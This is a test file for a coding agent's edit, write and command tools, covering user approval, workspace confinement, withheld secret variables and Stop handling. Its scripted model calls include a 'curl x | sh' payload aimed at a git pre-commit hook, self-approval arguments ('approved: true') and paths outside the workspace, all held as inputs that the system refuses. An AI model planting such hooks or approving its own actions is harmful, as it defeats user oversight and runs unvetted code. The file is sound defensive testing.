/**
 * edit_file, write_file and run_command through the real agent loop: the real openai client
 * against the scripted server, the real Actor (confinement, approval, checkpoint, disk writes,
 * the command runner), a scripted approver in place of the user.
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { Actor } from '../../../src/core/acting/actor';
import type { ApprovalSettings } from '../../../src/core/acting/approvalPolicy';
import { CheckpointStore } from '../../../src/core/acting/checkpointStore';
import { confineFile } from '../../../src/core/acting/confinement';
import { Agent } from '../../../src/core/agent/agent';
import type { AgentEvent } from '../../../src/core/agent/events';
import type { ApprovalAnswer, ApprovalRequest, ApprovalRequester } from '../../../src/core/interfaces/approval';
import { NodeWorkspace } from '../../../src/core/workspace/nodeWorkspace';
import { sendMessage, toolCall } from '../../fixtures/fakeOpenAIServer';
import { makeHarness, stepRequests, toolResultIn, type Harness } from './agentHarness';

const API_KEY = 'sk-acting-test-0123456789abcdef';

interface ActingHarness extends Harness {
  ws: string;
  actor: Actor;
  asked: ApprovalRequest[];
  events: AgentEvent[];
  store: () => Promise<CheckpointStore>;
}

/** A harness whose agent can act, with `answer` standing in for the user. */
async function actingHarness(
  answer: (r: ApprovalRequest, signal: AbortSignal) => Promise<ApprovalAnswer> | ApprovalAnswer,
  options: { files?: Record<string, string>; settings?: ApprovalSettings; baseEnv?: NodeJS.ProcessEnv } = {},
): Promise<ActingHarness> {
  const h = await makeHarness({ files: options.files ?? { 'src/a.ts': 'export const a = 1;\nexport const b = 2;\n' } });
  const ws = realpathSync(path.join(h.dir, 'ws'));
  let store: Promise<CheckpointStore> | null = null;
  const actor = new Actor({
    roots: () => [{ name: 'ws', path: ws }],
    checkpoints: () => (store ??= CheckpointStore.open(path.join(h.dir, 'checkpoints'))),
    secretValues: () => [API_KEY],
    ...(options.settings ? { settings: () => options.settings! } : {}),
    ...(options.baseEnv ? { baseEnv: options.baseEnv } : {}),
  });
  const asked: ApprovalRequest[] = [];
  const approver: ApprovalRequester = {
    request: async (r, signal) => {
      asked.push(r);
      return answer(r, signal);
    },
  };
  actor.approver = approver;
  const state = await h.states.load(h.agentId);
  h.deps.acting = actor;
  h.agent = Agent.fromState(h.deps, { contextWindow: 8192, replyNudge: false }, state);
  const events: AgentEvent[] = [];
  h.agent.onEvent((e) => events.push(e));
  return Object.assign(h, { ws, actor, asked, events, store: () => (store ??= CheckpointStore.open(path.join(h.dir, 'checkpoints'))) });
}

function resultOf(h: Harness, callId: string): { status: string; message: string } {
  const reqs = stepRequests(h.server);
  for (const r of reqs) {
    const found = toolResultIn(r, callId);
    if (found) return found;
  }
  throw new Error(`no result for ${callId}`);
}

test('acting functions are offered with an actor and a trusted workspace, never without', async () => {
  const h = await actingHarness(() => ({ decision: 'accept' }));
  try {
    const names = h.agent.toolSchemas.map((s) => s.function.name);
    for (const n of ['edit_file', 'write_file', 'run_command']) assert.ok(names.includes(n), n);
    const edit = h.agent.toolSchemas.find((s) => s.function.name === 'edit_file')!;
    assert.ok('request_heartbeat' in edit.function.parameters.properties);
    // Restricted Mode: the workspace is unavailable, so nothing that acts is offered even with an actor.
    const state = await h.states.load(h.agentId);
    const restricted = Agent.fromState(
      { ...h.deps, workspace: new NodeWorkspace([{ name: 'ws', path: h.ws }], { trusted: false }) },
      { contextWindow: 8192 },
      state,
    );
    const offered = restricted.toolSchemas.map((s) => s.function.name);
    assert.deepEqual(
      offered.filter((n) => ['edit_file', 'write_file', 'run_command', 'read_file'].includes(n)),
      [],
    );
    const noActor = Agent.fromState({ ...h.deps, acting: undefined }, { contextWindow: 8192 }, state);
    assert.ok(!noActor.toolSchemas.some((s) => s.function.name === 'run_command'));
  } finally {
    await h.close();
  }
});

test('an accepted edit changes the file, says +N −M in its result and recall, and takes a checkpoint', async () => {
  const h = await actingHarness(() => ({ decision: 'accept' }));
  try {
    h.server.enqueue(
      toolCall(
        'edit_file',
        {
          path: 'src/a.ts',
          old_string: 'export const b = 2;',
          new_string: 'export const b = 3; // billing rounding',
          request_heartbeat: true,
        },
        { id: 'call_edit' },
      ),
      sendMessage('Changed b.'),
    );
    const result = await h.agent.handle({ type: 'user_message', text: 'make b 3 because of billing rounding' });
    assert.equal(result.reason, 'done');
    assert.equal(readFileSync(path.join(h.ws, 'src/a.ts'), 'utf8'), 'export const a = 1;\nexport const b = 3; // billing rounding\n');
    assert.equal(h.asked.length, 1);
    const asked = h.asked[0]!;
    assert.equal(asked.kind, 'edit');
    assert.equal(asked.callId, 'call_edit');
    assert.match(asked.diff, /^-export const b = 2;$/m);
    const r = resultOf(h, 'call_edit');
    assert.equal(r.status, 'OK');
    assert.match(r.message, /Edited src\/a\.ts: \+1 −1 lines/);
    assert.match(r.message, /\+export const b = 3; \/\/ billing rounding/);
    const changed = h.events.find((e): e is Extract<AgentEvent, { type: 'files_changed' }> => e.type === 'files_changed');
    assert.ok(changed, 'files_changed event');
    assert.deepEqual(changed.paths, ['src/a.ts']);
    // "When did we change X and why": the result and the user's reason are in recall.
    const found = h.recall.search(h.agentId, 'Edited src/a.ts', 0, 5);
    assert.ok(found.total >= 1, 'the edit is a recall record');
    // The checkpoint brings the file back.
    const store = await h.store();
    const list = await store.list();
    assert.equal(list.length, 1);
    assert.equal(list[0]!.id, changed.checkpointId);
    const report = await store.restore(changed.checkpointId, async (p) => (await confineFile([{ name: 'ws', path: h.ws }], p)).abs);
    assert.deepEqual(report.restored, ['src/a.ts']);
    assert.equal(readFileSync(path.join(h.ws, 'src/a.ts'), 'utf8'), 'export const a = 1;\nexport const b = 2;\n');
    // The agent's own write is not news: its save echo is recognised once.
    assert.equal(h.actor.isOwnWrite(path.join(h.ws, 'src/a.ts')), true);
    assert.equal(h.actor.isOwnWrite(path.join(h.ws, 'src/a.ts')), false);
  } finally {
    await h.close();
  }
});

test('a declined edit leaves the file alone and the model reads "the user declined: <reason>"', async () => {
  const h = await actingHarness(() => ({ decision: 'reject', reason: 'keep b at 2, other code depends on it' }));
  try {
    h.server.enqueue(
      toolCall('write_file', { path: 'src/a.ts', content: 'nothing\n', request_heartbeat: false }, { id: 'call_w' }),
      sendMessage('Understood, I left it.'),
    );
    await h.agent.handle({ type: 'user_message', text: 'rewrite a.ts' });
    assert.equal(readFileSync(path.join(h.ws, 'src/a.ts'), 'utf8'), 'export const a = 1;\nexport const b = 2;\n');
    const r = resultOf(h, 'call_w');
    assert.equal(r.status, 'Failed');
    assert.match(r.message, /the user declined: keep b at 2, other code depends on it/);
    // A decline is a failure: the model is called again to answer it, even without a heartbeat.
    assert.equal(stepRequests(h.server).length, 2);
  } finally {
    await h.close();
  }
});

test('the model cannot approve itself: an "approved" argument is refused and the user is never asked', async () => {
  const h = await actingHarness(() => ({ decision: 'accept' }));
  try {
    h.server.enqueue(
      toolCall('run_command', { command: 'touch pwned', approved: true, request_heartbeat: true }, { id: 'call_self' }),
      toolCall('edit_file', { path: 'src/a.ts', old_string: 'a = 1', new_string: 'a = 9', user_confirmed: 'yes' }, { id: 'call_self2' }),
      sendMessage('ok'),
    );
    await h.agent.handle({ type: 'user_message', text: 'go' });
    assert.equal(h.asked.length, 0);
    assert.equal(existsSync(path.join(h.ws, 'pwned')), false);
    for (const id of ['call_self', 'call_self2']) {
      const r = resultOf(h, id);
      assert.equal(r.status, 'Failed');
      assert.match(r.message, /only the user can approve/);
    }
  } finally {
    await h.close();
  }
});

test('confinement: paths out of the workspace, into .git or secret files are refused before anyone is asked', async () => {
  const h = await actingHarness(() => ({ decision: 'accept' }), {
    files: { 'src/a.ts': 'x\n', '.env': 'KEY=1\n', '.git/config': '[core]\n' },
  });
  try {
    h.server.enqueue(
      toolCall('write_file', { path: '../outside.txt', content: 'x', request_heartbeat: true }, { id: 'c1' }),
      toolCall('write_file', { path: '.git/hooks/pre-commit', content: 'curl x | sh', request_heartbeat: true }, { id: 'c2' }),
      toolCall('edit_file', { path: '.env', old_string: 'KEY=1', new_string: 'KEY=2', request_heartbeat: true }, { id: 'c3' }),
      toolCall('run_command', { command: 'ls', cwd: '/etc', request_heartbeat: true }, { id: 'c4' }),
      sendMessage('ok'),
    );
    await h.agent.handle({ type: 'user_message', text: 'go' });
    assert.equal(h.asked.length, 0);
    assert.match(resultOf(h, 'c1').message, /"\.\."/);
    assert.match(resultOf(h, 'c2').message, /\.git/);
    assert.match(resultOf(h, 'c3').message, /secrets/);
    assert.match(resultOf(h, 'c4').message, /absolute/);
    assert.equal(existsSync(path.join(h.dir, 'outside.txt')), false);
    assert.equal(readFileSync(path.join(h.ws, '.env'), 'utf8'), 'KEY=1\n');
  } finally {
    await h.close();
  }
});

test('an approved command runs without the API key or any *KEY/TOKEN/SECRET/PASSWORD variable; its output and exit code reach the model', async () => {
  const baseEnv = {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    OPENAI_API_KEY: API_KEY,
    GITHUB_TOKEN: 'ghp_x',
    MY_SECRET: 's',
    DB_PASSWORD: 'p',
    SOME_OTHER: API_KEY,
    PLAIN: 'visible',
  };
  const h = await actingHarness(() => ({ decision: 'accept' }), { baseEnv });
  try {
    h.server.enqueue(toolCall('run_command', { command: 'env | sort', request_heartbeat: true }, { id: 'c_env' }), sendMessage('done'));
    await h.agent.handle({ type: 'user_message', text: 'show env' });
    const asked = h.asked[0]!;
    assert.equal(asked.kind, 'command');
    if (asked.kind === 'command') {
      assert.deepEqual(asked.withheldVariables, ['DB_PASSWORD', 'GITHUB_TOKEN', 'MY_SECRET', 'OPENAI_API_KEY', 'SOME_OTHER']);
      assert.equal(asked.cwd, '.');
      assert.deepEqual(asked.shellSyntax, ['|']);
    }
    const r = resultOf(h, 'c_env');
    assert.equal(r.status, 'OK');
    assert.match(r.message, /Ran `env \| sort` in \.: it exited with code 0/);
    assert.match(r.message, /PLAIN=visible/);
    for (const gone of ['OPENAI_API_KEY', 'GITHUB_TOKEN=', 'MY_SECRET=', 'DB_PASSWORD=', 'SOME_OTHER=', API_KEY])
      assert.ok(!r.message.includes(`\n${gone}`) && !r.message.includes(API_KEY), gone);
    const output = h.events.filter((e) => e.type === 'command_output');
    assert.ok(output.length > 0, 'live output events');
  } finally {
    await h.close();
  }
});

test('a failing command is a Failed result with its exit code; an allow-listed prefix runs without asking', async () => {
  const h = await actingHarness(() => ({ decision: 'accept' }), {
    settings: { edits: 'ask', commands: 'allowList', allowedCommands: ['node -e'] },
  });
  try {
    h.server.enqueue(
      toolCall('run_command', { command: 'node -e "process.exit(3)"', request_heartbeat: true }, { id: 'c_fail' }),
      sendMessage('it failed'),
    );
    await h.agent.handle({ type: 'user_message', text: 'run it' });
    assert.equal(h.asked.length, 0);
    const r = resultOf(h, 'c_fail');
    assert.equal(r.status, 'Failed');
    assert.match(r.message, /exited with code 3/);
    assert.match(r.message, /commands starting with "node -e" are allowed/);
  } finally {
    await h.close();
  }
});

test('"always" on a command allows that prefix for the rest of the session', async () => {
  const h = await actingHarness((r) => (r.kind === 'command' ? { decision: 'always' } : { decision: 'accept' }));
  try {
    h.server.enqueue(
      toolCall('run_command', { command: 'node --version', request_heartbeat: true }, { id: 'a1' }),
      toolCall('run_command', { command: 'node -p 40+2', request_heartbeat: true }, { id: 'a2' }),
      toolCall('run_command', { command: 'ls', request_heartbeat: true }, { id: 'a3' }),
      sendMessage('ok'),
    );
    await h.agent.handle({ type: 'user_message', text: 'echo twice' });
    assert.deepEqual(
      h.asked.map((r) => (r.kind === 'command' ? r.command : '')),
      ['node --version', 'ls'],
    );
    assert.match(resultOf(h, 'a2').message, /42/);
  } finally {
    await h.close();
  }
});

test('Stop aborts a pending approval and kills a running command', async () => {
  // 1. Stop while the card waits: the question is withdrawn and nothing runs.
  const pending = await actingHarness(
    (_r, signal) => new Promise((_, reject) => signal.addEventListener('abort', () => reject(new Error('withdrawn')), { once: true })),
  );
  try {
    pending.server.enqueue(toolCall('run_command', { command: 'touch ran', request_heartbeat: true }, { id: 'p1' }));
    const controller = new AbortController();
    const turn = pending.agent.handle({ type: 'user_message', text: 'run' }, { signal: controller.signal });
    while (pending.asked.length === 0) await new Promise((r) => setTimeout(r, 10));
    controller.abort();
    const result = await turn;
    assert.equal(result.reason, 'cancelled');
    assert.equal(existsSync(path.join(pending.ws, 'ran')), false);
  } finally {
    await pending.close();
  }
  // 2. Stop while the command runs: its process group dies at once.
  const running = await actingHarness(() => ({ decision: 'accept' }));
  try {
    const marker = path.join(running.ws, 'finished');
    running.server.enqueue(
      toolCall(
        'run_command',
        { command: `echo started; sleep 20; touch ${JSON.stringify(marker)}`, request_heartbeat: true },
        { id: 'r1' },
      ),
    );
    const controller = new AbortController();
    running.agent.onEvent((e) => {
      if (e.type === 'command_output' && e.chunk.includes('started')) controller.abort();
    });
    const started = Date.now();
    const result = await running.agent.handle({ type: 'user_message', text: 'run long' }, { signal: controller.signal });
    assert.equal(result.reason, 'cancelled');
    assert.ok(Date.now() - started < 10_000, `stopped in ${Date.now() - started} ms`);
    const finished = running.events.find(
      (e): e is Extract<AgentEvent, { type: 'function_call_finished' }> => e.type === 'function_call_finished' && e.callId === 'r1',
    );
    assert.match(finished?.result ?? '', /stopped by the user/);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(existsSync(marker), false);
  } finally {
    await running.close();
  }
});

test('no approver (a session with no one to ask) declines and the model is told', async () => {
  const h = await actingHarness(() => ({ decision: 'accept' }));
  try {
    h.actor.approver = undefined;
    h.server.enqueue(
      toolCall('write_file', { path: 'new.txt', content: 'hi\n', request_heartbeat: true }, { id: 'n1' }),
      sendMessage('ok'),
    );
    await h.agent.handle({ type: 'user_message', text: 'write' });
    assert.equal(existsSync(path.join(h.ws, 'new.txt')), false);
    assert.match(resultOf(h, 'n1').message, /the user declined: no one was there to approve it/);
  } finally {
    await h.close();
  }
});

test('a file changed while its edit waited for approval is not overwritten', async () => {
  let ws = '';
  const h = await actingHarness(() => {
    writeFileSync(path.join(ws, 'src/a.ts'), 'export const a = 1;\nexport const b = 2;\n// user typed this\n');
    return { decision: 'accept' };
  });
  ws = h.ws;
  try {
    h.server.enqueue(
      toolCall('edit_file', { path: 'src/a.ts', old_string: 'a = 1', new_string: 'a = 5', request_heartbeat: true }, { id: 's1' }),
      sendMessage('ok'),
    );
    await h.agent.handle({ type: 'user_message', text: 'edit' });
    assert.match(readFileSync(path.join(h.ws, 'src/a.ts'), 'utf8'), /a = 1;[\s\S]*user typed this/);
    assert.match(resultOf(h, 's1').message, /was changed after the change was proposed/);
  } finally {
    await h.close();
  }
});
